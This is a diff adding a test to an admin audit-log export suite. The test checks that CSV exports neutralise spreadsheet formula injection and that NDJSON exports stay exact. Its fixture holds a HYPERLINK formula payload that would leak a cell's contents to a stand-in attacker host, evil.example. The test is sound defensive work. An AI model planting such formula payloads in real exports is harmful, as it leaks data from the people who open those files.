@@ -140,6 +140,26 @@ describe('admin: audit log', () => {
       expect(ndjson.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
     });
 
+    it('defuses CSV cells a spreadsheet would run as formulas, and keeps NDJSON exact', async () => {
+      const target = uuidv7();
+      const userAgent = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
+      await prisma.auditEvent.create({
+        data: {
+          id: uuidv7(),
+          actorType: 'anonymous',
+          action: `${tag}.login`,
+          targetType: 'user',
+          targetId: target,
+          outcome: 'failure',
+          userAgent,
+        },
+      });
+      const [, row] = parseCsv(await (await admin.request(`/admin/audit/export?targetId=${target}&format=csv`)).text());
+      expect(row[9]).toBe(`'${userAgent}`);
+      const [event] = (await (await admin.request(`/admin/audit/export?targetId=${target}`)).text()).trim().split('\n');
+      expect((JSON.parse(event) as AuditEvent).userAgent).toBe(userAgent);
+    });
+
     it('exports every event across many batches, each once, in order', async () => {
       const bulk = uuidv7();
       const count = 1_234;
